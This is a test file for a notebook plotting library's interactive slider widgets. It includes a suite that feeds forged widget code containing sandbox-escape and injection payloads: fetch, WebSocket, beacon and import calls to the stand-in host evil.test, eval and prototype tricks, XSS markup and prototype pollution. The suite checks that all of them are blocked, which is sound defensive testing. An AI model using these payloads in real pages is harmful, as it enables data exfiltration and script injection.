import { afterAll, describe, expect, test } from "vitest";
import type { Page } from "playwright-core";
import { type Explorer, explore, number, select, slider, toggle } from "../../src/index";
import { figureHtml } from "../../src/notebook/figure-html";
import { mimeBundle } from "../../src/notebook/mime";
import { closeTestBrowser, openNotebookPage, testBrowser } from "../support/notebook-page";

const explorer = explore(
  (klab, v) =>
    klab.figures.densityPair(klab.normal(0, 1), klab.normal(v.mu, v.sigma), { points: 401 }),
  { mu: slider(-3, 3, 0, { label: "均值μ" }), sigma: slider(0.2, 3, 1, { label: "标准差σ" }) },
);
const htmlOf = (value: Explorer): string => value[mimeBundle]()["text/html"] as string;

/** The explorer's output with something else in it: as a notebook of an enemy would have it. */
function forged(changes: object): string {
  const json = /<script type="application\/json">(.*?)<\/script>/s.exec(htmlOf(explorer))![1];
  const plotly = JSON.parse(json);
  Object.assign(plotly.explorer, changes);
  const { caption, alt, table } = explorer;
  return figureHtml({ caption, alt, table, plotly });
}

const readout = 'output[aria-live="polite"]';
const says = (page: Page, text: string, at = 0): Promise<unknown> =>
  page.waitForFunction(
    ([selector, wanted, index]) =>
      document.querySelectorAll(selector)[index]?.textContent?.includes(wanted),
    [readout, text, at] as const,
    { timeout: 20_000 },
  );

const browser = await testBrowser();
if (!browser) console.log("no browser on this machine: explorers are not tried in a page");
afterAll(closeTestBrowser);

describe.runIf(browser)("an explorer in a notebook's page", () => {
  test("recomputes when its slider is moved by keyboard, and says the new value", async () => {
    const { page, requests, errors, close } = await openNotebookPage(htmlOf(explorer));
    const input = page.getByLabel("均值μ");
    await input.focus();
    for (let i = 0; i < 4; i++) await page.keyboard.press("ArrowRight");
    await says(page, "D(P‖Q) = 0.02 nat");
    expect(await input.inputValue()).toBe("0.2");
    expect(await page.locator("[data-klab-plot] .gtitle").textContent()).toContain("0.02 nat");
    expect(requests).toEqual([]);
    expect(errors).toEqual([]);
    await close();
  });

  test("its slider follows a finger", async () => {
    const { page, close } = await openNotebookPage(htmlOf(explorer), { touch: true });
    const box = (await page.getByLabel("均值μ").boundingBox())!;
    expect(box.height).toBeGreaterThanOrEqual(24);
    await page.touchscreen.tap(box.x + box.width * 0.75, box.y + box.height / 2);
    await says(page, "D(P‖Q) = 1");
    await close();
  });

  test("selects, toggles and typed numbers recompute too; a number out of range does not", async () => {
    const coins = explore(
      (klab, v) => {
        const [p, q] = [
          [v.a, 1 - v.a],
          [0.9, 0.1],
        ];
        const figure = v.direction === "p‖q" ? [p, q] : [q, p];
        return klab.figures.pmfPair(figure[0], figure[1], v.bit ? { base: 2 } : {});
      },
      {
        direction: select(["p‖q", "q‖p"], "p‖q", { label: "方向" }),
        bit: toggle(false, { label: "比特" }),
        a: number(0.5, { low: 0.01, high: 0.99, label: "正面" }),
      },
    );
    const { page, errors, close } = await openNotebookPage(htmlOf(coins));
    await page.getByLabel("方向").selectOption("q‖p");
    await says(page, "0.3681 nat");
    await page.getByLabel("比特").check();
    await says(page, "0.531 bit");
    await page.getByLabel("正面").fill("0.75");
    await says(page, "0.1045 bit");
    await page.getByLabel("正面").fill("7");
    expect(await page.getByLabel("正面").getAttribute("aria-invalid")).toBe("true");
    expect(errors).toEqual([]);
    await close();
  });

  test("without the library's files the picture stays, and a line says why there are no controls", async () => {
    const { page, close } = await openNotebookPage(htmlOf(explorer), { served: false });
    expect(await page.locator("[data-klab-still]").textContent()).toBe(explorer.alt);
    expect(await page.locator("input").count()).toBe(0);
    await close();
  });

  test("moving a slider over 2 traces of 401 points takes 20 ms of script at the median, 50 at most of 95 %", async () => {
    const lines = explore(
      (klab, v) => {
        const x = Array.from({ length: 401 }, (_, i) => -5 + i / 40);
        const curve = (mean: number): object => ({
          type: "scatter",
          mode: "lines",
          x,
          y: x.map((xi) => klab.normal(mean, 1).prob(xi)),
        });
        return new klab.Figure({
          data: [curve(0), curve(v.mu)] as never,
          layout: { title: { text: `μ = ${v.mu}` } },
          alt: "",
          table: { columns: [], rows: [] },
        });
      },
      { mu: slider(-3, 3, 0) },
    );
    const { page, close } = await openNotebookPage(htmlOf(lines));
    const session = await page.context().newCDPSession(page);
    await session.send("Performance.enable");
    const scriptTime = async (): Promise<number> => {
      const { metrics } = await session.send("Performance.getMetrics");
      return 1000 * metrics.find(({ name }) => name === "ScriptDuration")!.value;
    };
    const times: number[] = [];
    for (let i = 0; i <= 45; i++) {
      const value = Number((((i * 7) % 60) / 20 - 1.5).toFixed(2));
      const before = await scriptTime();
      await page.getByLabel("mu").fill(String(value));
      await says(page, `μ = ${value}`);
      if (i >= 5) times.push((await scriptTime()) - before);
    }
    times.sort((a, b) => a - b);
    const [median, most] = [times[20], times[38]];
    console.log(`slider: median ${median.toFixed(1)} ms, 95 % ${most.toFixed(1)} ms of script`);
    expect(median).toBeLessThanOrEqual(20);
    expect(most).toBeLessThanOrEqual(50);
    await close();
  }, 60_000);
});

describe.runIf(browser)("a hostile explorer", () => {
  test("could be seen if it reached out: the test's own control", async () => {
    const { page, requests, close } = await openNotebookPage("<p>…</p>");
    await page.evaluate(() => {
      const script = 'fetch("http://evil.test/f"); import("http://evil.test/m.js").catch(() => 0);';
      new Worker(URL.createObjectURL(new Blob([script])));
    });
    await expect.poll(() => requests.length, { timeout: 5000 }).toBe(2);
    expect(requests.every((url) => url.includes("evil.test"))).toBe(true);
    await close();
  });

  const evil = "http://evil.test";
  const call = (code: string): string =>
    `(klab, v) => { try { ${code} } catch {} return { data: [], layout: { title: { text: "试过了" } } } }`;
  const reaching = {
    fetch: call(`fetch("${evil}")`),
    XMLHttpRequest: call(`const x = new XMLHttpRequest(); x.open("GET", "${evil}"); x.send()`),
    WebSocket: call('new WebSocket("ws://evil.test")'),
    EventSource: call(`new EventSource("${evil}")`),
    importScripts: call(`importScripts("${evil}/a.js")`),
    beacon: call(`navigator.sendBeacon("${evil}", "x")`),
    "a dynamic import": call(`import("${evil}/m.js")`),
    "an import by eval": call(`(0, eval)('import("${evil}/m.js")')`),
    "the global by Function": call(`Function("return this")().fetch("${evil}")`),
    "the global's prototype": call(
      `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, "${evil}")`,
    ),
    "a Worker of its own": call(`new Worker("data:text/javascript,fetch('${evil}')")`),
    storage: call('indexedDB.open("x")'),
    "a break out of its brackets": `0); fetch("${evil}"); import("${evil}/m.js"); (0`,
    "a rejected promise that fetches": call(`Promise.reject().catch(() => fetch("${evil}"))`),
  };

  test.each(Object.entries(reaching))("reaches nothing by %s", async (_, source) => {
    const { page, requests, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    // Broken out of its brackets, it fails before it is called.
    await says(page, source.startsWith("0)") ? "不能运行" : "试过了");
    await page.waitForTimeout(300);
    expect(requests).toEqual([]);
    await close();
  });

  test("that never ends is ended, and the explorer beside it works all the while", async () => {
    const { page, close } = await openNotebookPage(
      forged({ source: "(klab, v) => { for (;;); }" }) + htmlOf(explorer),
    );
    await page.getByLabel("均值μ").first().fill("1");
    await page.getByLabel("均值μ").last().fill("1");
    await says(page, "0.5 nat", 1);
    await says(page, "已停止", 0);
    await close();
  }, 40_000);

  test.each([
    [
      "a result of millions of numbers",
      'return { data: [{ type: "scatter", y: Array(3e6).fill(1.5) }], layout: {} }',
      "图太大",
    ],
    [
      "too many traces",
      'return { data: Array(1000).fill({ type: "scatter" }), layout: {} }',
      "没有返回可画的图",
    ],
    [
      "a type of trace that loads tiles",
      'return { data: [{ type: "scattermap" }], layout: {} }',
      "没有返回可画的图",
    ],
    ["no figure", "return 7", "没有返回可画的图"],
    ["an error that is markup", 'throw new Error("<img src=x onerror=pwned()>")', ""],
  ])("returning %s is told so", async (_, body, message) => {
    const { page, requests, errors, close } = await openNotebookPage(
      forged({ source: `(klab, v) => { ${body} }` }),
    );
    await page.getByLabel("均值μ").fill("1");
    await says(page, message);
    await page.waitForTimeout(200);
    expect(await page.locator("figure img").count()).toBe(0);
    expect(requests).toEqual([]);
    expect(errors).toEqual([]);
    await close();
  });

  test("puts no markup, link or picture into the page by its labels", async () => {
    const markup = `<img src='${evil}/i.png'><a href='${evil}'>看</a><script>pwned=1</script><b>粗</b>`;
    const source = `(klab, v) => ({ data: [{ type: "scatter", name: ${JSON.stringify(markup)}, x: [1, 2], y: [1, 2] }], layout: { title: { text: ${JSON.stringify(markup)} }, images: [{ source: "${evil}/j.png" }], annotations: [{ text: ${JSON.stringify(markup)} }] } })`;
    const { page, requests, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "粗");
    expect(await page.locator("figure a:not(.modebar-btn), figure img, figure image").count()).toBe(
      0,
    );
    expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
    expect(requests).toEqual([]);
    await close();
  });

  test("pollutes no prototype", async () => {
    const json =
      '{"type":"scatter","y":[1],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
    const source = `(klab, v) => { Object.prototype.polluted = 1; return { data: [JSON.parse('${json}')], layout: JSON.parse('{"title":{"text":"完"},"__proto__":{"polluted":1}}') } }`;
    const { page, close } = await openNotebookPage(forged({ source }));
    await page.getByLabel("均值μ").fill("1");
    await says(page, "完");
    expect(await page.evaluate(() => "polluted" in {})).toBe(false);
    await close();
  });

  test("with markup for labels, names and choices shows it as text", async () => {
    const label = "<img src=x onerror=pwned=1>";
    const controls = {
      [label]: { kind: "slider", low: 0, high: 1, value: 0, step: 0.1, label },
      s: { kind: "select", choices: [label], value: label },
    };
    const { page, requests, close } = await openNotebookPage(forged({ controls }));
    await page.locator("label").first().waitFor();
    expect(await page.locator("label").first().textContent()).toBe(label);
    expect(await page.locator("figure img").count()).toBe(0);
    expect(requests).toEqual([]);
    await close();
  });
});
